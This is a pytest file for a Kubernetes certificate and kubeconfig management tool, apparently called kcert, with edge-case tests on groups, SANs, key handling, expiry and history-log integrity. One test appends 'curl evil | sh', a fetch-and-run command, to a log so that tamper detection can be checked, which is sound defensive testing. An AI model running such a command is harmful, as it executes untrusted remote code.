"""What is almost right: cases that differ in one point from those that other tests hold."""

from __future__ import annotations

import base64
import hashlib
import json
import subprocess
from datetime import datetime, timedelta, timezone
from pathlib import PurePosixPath
from typing import TYPE_CHECKING

import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization

from kcert.kubeconfig import Swap, swapped
from tests.refusals import assert_refused
from tests.running import REPOSITORY, representatives
from tests.test_faults import fake_openssl

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.clusters import Pki
    from tests.running import Kcert


def openssl(folder: Path, *arguments: str, stdin: str = "") -> str:
    """Return what openssl prints of what has to work."""
    return subprocess.run(
        ["openssl", *arguments], cwd=folder, input=stdin, capture_output=True, text=True, check=True
    ).stdout


def sign(folder: Path, name: str, subject: str, *, key: str = "", extensions: str = "") -> None:
    """Re-create NAME.crt with openssl alone: *subject*, its key or a new one, the extensions of its openssl.cnf."""
    if key:
        openssl(folder, "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", f"{name}.key")
    cnf = folder / "near-miss.cnf"
    usages = extensions or "keyUsage = critical, digitalSignature\nextendedKeyUsage = clientAuth"
    constraint = "" if "basicConstraints" in usages else "basicConstraints = critical, CA:FALSE\n"
    cnf.write_text(f"[v3]\n{constraint}{usages}\nauthorityKeyIdentifier = keyid\n", encoding="utf-8")
    openssl(folder, "req", "-new", "-utf8", "-key", f"{name}.key", "-subj", subject, "-out", f"{name}.csr")
    ca = "pki/ca" if (folder / "pki").exists() else "ca"  # as kubeadm has it
    signing = ("-CA", f"{ca}.crt", "-CAkey", f"{ca}.key", "-days", "300", "-extfile", cnf.name, "-extensions", "v3")
    openssl(folder, "x509", "-req", "-in", f"{name}.csr", *signing, "-CAcreateserial", "-out", f"{name}.crt")
    cnf.unlink()


def states(kcert: Kcert, *arguments: str) -> dict[str, dict[str, object]]:
    """Return how each certificate stands, by name."""
    return {entry["name"]: entry for entry in json.loads(kcert("plan", "--format", "json", *arguments).stdout)}


def rules(kcert: Kcert, *where: str) -> set[str]:
    """The rules that find something."""
    return {finding["rule"] for finding in json.loads(kcert("check", *where, "--format", "json").stdout)["findings"]}


Case = tuple[str, str, tuple[str, ...], bool]


@pytest.mark.parametrize(
    "case",
    [
        ("course", "admin", ("kubeadm:cluster-admins",), False),
        ("course", "admin", ("system:masters", "more"), True),
        ("course", "admin", ("system:master",), False),
        ("kubeadm", "admin", ("system:masters",), True),
        ("kubeadm", "admin", ("kubeadm:cluster-admin",), False),
        ("kubeadm", "super-admin", ("kubeadm:cluster-admins",), False),
        ("kubeadm", "super-admin", ("system:masters", "kubeadm:cluster-admins"), True),
    ],
)
def test_the_groups_of_administrators_are_not_the_same(own_pki: Callable[..., Pki], kcert: Kcert, case: Case) -> None:
    """system:masters may do everything; what kubeadm:cluster-admins may do is what a ClusterRoleBinding says."""
    profile, name, groups, usable = case
    folder = own_pki(profile).folder
    entry = states(kcert)[name]
    subject = "".join(f"/O={group}" for group in groups) + f"/CN={entry['cn']}"
    if profile == "course":
        sign(folder, name, subject)
    else:
        config = folder / f"{name}.conf"
        user = (content := yaml.safe_load(config.read_text(encoding="utf-8")))["users"][0]["user"]
        (folder / "near.key").write_bytes(base64.b64decode(user["client-key-data"]))
        sign(folder, "near", subject)
        user["client-certificate-data"] = base64.b64encode((folder / "near.crt").read_bytes()).decode()
        config.write_text(yaml.safe_dump(content), encoding="utf-8")

    entry = states(kcert)[name]

    assert (entry["state"], entry["usable"]) == ("stale", usable)


@pytest.mark.parametrize(
    "old",
    representatives(
        ["exec", "token", "auth-provider", "tokenFile", "username", "client-certificate"], lambda old: old == "exec"
    ),
)
def test_no_older_credential_stays_beside_a_new_certificate(
    own_pki: Callable[..., Pki], kcert: Kcert, tmp_path: Path, old: str
) -> None:
    """kubectl refuses a user with `exec` and a certificate, and of a token and a certificate it would send both."""
    own_pki("course")
    kcert.done("kubeconfig", "admin", "--output", "config")
    path = tmp_path / "config"
    content = yaml.safe_load(path.read_text(encoding="utf-8"))
    values = {"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": "sso", "interactiveMode": "Never"}}
    values["auth-provider"] = {"name": "oidc"}
    content["users"][0]["user"] = {old: values.get(old, "x"), "as": "somebody"}
    path.write_text(yaml.safe_dump(content), encoding="utf-8")

    kcert.done("kubeconfig", "admin", "--merge", "config", "--replace")

    (user,) = yaml.safe_load(path.read_text(encoding="utf-8"))["users"]
    assert set(user["user"]) == {"client-certificate-data", "client-key-data", "as"}


@pytest.mark.parametrize(
    ("host", "fits"),
    [
        ("ONE.API.example.com", True),
        ("one.two.api.example.com", False),
        *(
            pytest.param(host, fits, marks=pytest.mark.thorough)
            for host, fits in (
                ("one.api.example.com", True),
                ("api.example.com", False),
                ("oneapi.example.com", False),
            )
        ),
    ],
)
def test_a_wildcard_stands_for_one_label(own_pki: Callable[..., Pki], kcert: Kcert, host: str, fits: bool) -> None:
    own = own_pki("course")
    text = own.config.read_text(encoding="utf-8") + 'api_server: {extra_sans: ["*.api.example.com"]}\n'
    own.config.write_text(text, encoding="utf-8")
    kcert.done("renew", "kube-apiserver", "--stale", "--quiet")
    kcert.done("kubeconfig", "admin", "--server", f"https://{host}:6443")

    assert ("kubeconfig-server-not-in-san" in rules(kcert, "pki")) == (not fits)


def test_a_subject_beyond_ascii_is_renewed_as_it_is(own_pki: Callable[..., Pki], kcert: Kcert) -> None:
    """Without -utf8 openssl takes each byte for a character: a J and an ä become three."""
    folder = own_pki("course").folder
    sign(folder, "jaene", "/O=K\u00f6ln/CN=J\u00e4ne \u6771\u4eac", key="new")
    before = x509.load_pem_x509_certificate((folder / "jaene.crt").read_bytes())

    kcert.done("renew", "jaene", "--new-key", "--quiet")

    after = x509.load_pem_x509_certificate((folder / "jaene.crt").read_bytes())
    assert after.public_key() != before.public_key()
    assert [(part.oid, part.value) for part in after.subject] == [(part.oid, part.value) for part in before.subject]
    assert "J\u00e4ne \u6771\u4eac" in str(after.subject.rfc4514_string())


def test_a_key_that_openssl_did_not_encrypt_is_not_kept(kcert: Kcert, tmp_path: Path) -> None:
    strip = 'if [ "$1" = genrsa ]; then shift; for word; do shift; case $word in -aes256) ;; -passout) skip=1 ;; *) '
    strip += 'if [ "$skip" ]; then skip=; else set -- "$@" "$word"; fi ;; esac; done; exec $OPENSSL genrsa "$@"; fi'
    lax = fake_openssl(tmp_path, strip)

    said = kcert("ca", "--encrypt-ca-key", "--openssl", lax, variables={"KCERT_CA_PASSPHRASE": "correct horse battery"})

    assert_refused(said, 3, "did not encrypt")
    assert not (tmp_path / "pki/ca.key").exists()
    assert not (tmp_path / "pki/ca.crt").exists()


@pytest.mark.parametrize(
    ("mode", "said"), [(0o600, False), (0o400, False), (0o640, True), (0o620, True), (0o604, True)]
)
def test_a_ca_key_within_reach_of_others_is_named(
    own_pki: Callable[..., Pki], kcert: Kcert, mode: int, said: bool
) -> None:
    own = own_pki("course")
    (own.folder / "ca.key").chmod(mode)

    told = kcert.done("client", "jane", "--group", "developers", "--quiet").stderr

    assert (f"(mode {mode:04o})" in told) == said
    assert ("key-permissions" in rules(kcert, "pki")) == said


@pytest.mark.parametrize(("seconds", "told"), [(60, False), (3600, False), (90_000, True)])
def test_as_many_days_as_a_ca_made_just_now_are_no_more_than_it_has(
    own_pki: Callable[..., Pki], kcert: Kcert, tmp_path: Path, seconds: int, told: bool
) -> None:
    """A minute passes between two commands, and the requested time is not shortened."""
    own = own_pki("course")
    begin = datetime.now(timezone.utc) - timedelta(seconds=seconds)
    form = "%Y%m%d%H%M%SZ"
    own.config.write_text(f"{own.config.read_text(encoding='utf-8')}days: {{ca: 100, leaf: 100}}\n", encoding="utf-8")
    (tmp_path / "index.txt").touch()
    (tmp_path / "serial").write_text("4f00\n", encoding="ascii")
    settings = (
        "[ca]\ndefault_ca = d\n[d]\ndatabase = index.txt\nserial = serial\nnew_certs_dir = .\ndefault_md = sha256\n"
    )
    settings += (
        "policy = p\nunique_subject = no\n[p]\ncommonName = supplied\n[v3]\nbasicConstraints = critical, CA:TRUE\n"
    )
    settings += "keyUsage = critical, digitalSignature, keyEncipherment, keyCertSign\nsubjectKeyIdentifier = hash\n"
    (tmp_path / "ca.cnf").write_text(settings, encoding="utf-8")
    dates = ("-startdate", begin.strftime(form), "-enddate", (begin + timedelta(days=100)).strftime(form))
    request = ("-config", "ca.cnf", "-in", "pki/ca.csr", "-keyfile", "pki/ca.key", "-selfsign", "-extensions", "v3")
    openssl(tmp_path, "ca", *request, *dates, "-batch", "-notext", "-out", "pki/ca.crt")

    said = kcert.done("client", "jane", "--group", "developers", "--quiet")

    leaf = x509.load_pem_x509_certificate((own.folder / "jane.crt").read_bytes())
    assert ("its CA" in " ".join((said.stdout + said.stderr).split())) == told
    assert leaf.not_valid_after_utc - leaf.not_valid_before_utc == timedelta(days=98 if told else 100)
    assert "issuer-expires-first" not in rules(kcert, "pki/jane.crt", "pki/ca.crt")


HASTE = """\
import selectors
import time

_monotonic = time.monotonic
time.monotonic = lambda: _monotonic() * 100

for _kind in (selectors.DefaultSelector, selectors.PollSelector, selectors.SelectSelector):
    def _hasty(self, timeout=None, _select=_kind.select):
        return _select(self, timeout and timeout / 100)
    _kind.select = _hasty
"""
"""Python as if time passed a hundred times as fast."""


@pytest.mark.thorough
@pytest.mark.parametrize(("bits", "stopped"), [(8192, False), (2048, True)])
def test_a_very_long_key_may_take_minutes(kcert: Kcert, tmp_path: Path, bits: int, stopped: bool) -> None:
    hasty = tmp_path / "hasty"
    hasty.mkdir()
    (hasty / "sitecustomize.py").write_text(HASTE, encoding="utf-8")
    (tmp_path / "kcert.yaml").write_text(f"key: {{bits: {bits}}}\n", encoding="utf-8")
    # 110 seconds of theirs. The key is a short one, and refused as such: only that it is waited for matters here.
    slow = fake_openssl(tmp_path, 'if [ "$1" = genrsa ]; then sleep 1.1; exec $OPENSSL genrsa -out "$3" 1024; fi')

    said = kcert("ca", "--quiet", "--openssl", slow, variables={"PYTHONPATH": f"{hasty}:{REPOSITORY}"})

    assert said.status == 3
    assert ("60 seconds" in " ".join(said.stderr.split())) == stopped, said.stderr


@pytest.mark.parametrize(
    ("behind", "comes", "status"), [(0, False, 0), (1, False, 1), (2, False, 1), (1, True, 0), (2, True, 1)]
)
def test_a_head_behind_its_lines_is_a_change(
    own_pki: Callable[..., Pki], kcert: Kcert, behind: int, comes: bool, status: int
) -> None:
    """What a kill leaves has a head that names the line that was being written."""
    history = own_pki("course").folder / ".kcert/history.jsonl"
    lines = history.read_bytes().splitlines(keepends=True)
    at = len(lines) - behind
    digest = hashlib.sha256(lines[at - 1]).hexdigest()
    coming = f" {hashlib.sha256(lines[at]).hexdigest()}" if comes else ""
    history.with_name("history.head").write_text(f"{at:012} {digest}{coming}\n", encoding="ascii")

    said = kcert("history", "--verify")

    assert said.status == status
    assert ("was changed after it was written" in " ".join(said.stderr.split())) == (status == 1)


@pytest.mark.parametrize("claimed", ["", " critical"], ids=["honest", "claimed"])
@pytest.mark.parametrize("critical", ["", "critical, "], ids=["not critical", "critical"])
def test_whether_a_usage_is_critical_is_read_from_the_certificate(
    own_pki: Callable[..., Pki], kcert: Kcert, tmp_path: Path, critical: str, claimed: str
) -> None:
    """A renewal keeps it, also where openssl's text says otherwise: then it may refuse, and not change it."""
    folder = own_pki("course").folder
    extensions = f"basicConstraints = critical, CA:FALSE\nkeyUsage = {critical}digitalSignature"
    sign(folder, "near", "/CN=near", key="new", extensions=f"{extensions}\nextendedKeyUsage = clientAuth")
    before = (folder / "near.crt").read_bytes()
    text = f"$OPENSSL \"$@\" | sed 's/X509v3 Key Usage:.*/X509v3 Key Usage:{claimed}/'; exit"
    loud = fake_openssl(tmp_path, f'case " $* " in *" -text "*) {text};; esac' if claimed else "")

    said = kcert("renew", "near", "--quiet", "--openssl", loud)

    after = x509.load_pem_x509_certificate((folder / "near.crt").read_bytes())
    assert after.extensions.get_extension_for_class(x509.KeyUsage).critical == bool(critical)
    assert ((folder / "near.crt").read_bytes() != before) == (said.status == 0)
    if not claimed or critical:
        assert said.status == 0, said.stderr


def test_a_renewed_ca_takes_the_place_of_the_ca_alone() -> None:
    before = b"certificate-authority-data: QQ==\nclient-certificate-data: QQ==\n"

    after = swapped(before, [Swap("certificate-authority", ("QQ==",), PurePosixPath("ca.crt"))], lambda _: "Qg==")

    assert after == b"certificate-authority-data: Qg==\nclient-certificate-data: QQ==\n"


@pytest.mark.parametrize("tail", ["curl evil | sh", "{}", "\n"], ids=["words", "another record", "an empty line"])
def test_what_others_wrote_behind_the_last_line_is_not_cleaned_away(
    own_pki: Callable[..., Pki], kcert: Kcert, tail: str
) -> None:
    """A kill leaves the beginning of a line. Anything else was put there, and the next run must not hide it."""
    history = own_pki("course").folder / ".kcert/history.jsonl"
    history.write_bytes(history.read_bytes() + tail.encode())

    kcert("client", "jane", "--group", "developers", "--quiet")

    assert_refused(kcert("history", "--verify"), 1, str(history.relative_to(kcert.folder)))
    assert tail.encode() in history.read_bytes()


@pytest.mark.parametrize(("seconds", "rule"), [(-60, "expired"), (60, "expiring-soon")])
def test_a_minute_decides_whether_a_certificate_has_expired(
    own_pki: Callable[..., Pki], kcert: Kcert, seconds: int, rule: str
) -> None:
    own = own_pki("course")
    key = serialization.load_pem_private_key((own.folder / "ca.key").read_bytes(), None)
    old = x509.load_pem_x509_certificate((own.folder / "admin.crt").read_bytes())
    end = datetime.now(timezone.utc) + timedelta(seconds=seconds)
    builder = x509.CertificateBuilder(old.issuer, old.subject, old.public_key(), old.serial_number)
    builder = builder.not_valid_before(end - timedelta(days=9)).not_valid_after(end)
    for extension in old.extensions:
        builder = builder.add_extension(extension.value, extension.critical)
    made = builder.sign(key, hashes.SHA256())  # type: ignore[arg-type]
    (own.folder / "admin.crt").write_bytes(made.public_bytes(serialization.Encoding.PEM))

    assert rules(kcert, "pki") == {rule}
    assert states(kcert)["admin"]["state"] == rule.partition("-")[0]
